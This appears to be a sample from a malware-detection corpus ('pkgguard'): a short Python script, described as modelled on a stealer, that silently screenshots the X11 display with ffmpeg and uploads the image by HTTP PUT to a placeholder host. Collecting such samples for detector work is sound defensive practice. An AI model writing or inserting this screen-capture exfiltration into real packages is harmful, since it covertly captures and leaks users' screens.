# pkgguard corpus 499 (screenshot), modelled on [stealer-profile]; inert, never run.
import os
import subprocess
import tempfile

import requests

out = os.path.join(tempfile.gettempdir(), "frame.png")
subprocess.run(
    ["ffmpeg", "-loglevel", "quiet", "-y", "-f", "x11grab", "-i", os.environ.get("DISPLAY", ":0"), "-frames:v", "1", out],
    check=False,
)
with open(out, "rb") as fh:
    requests.put("https://media-cache.example/upload/frame.png", data=fh, timeout=15)
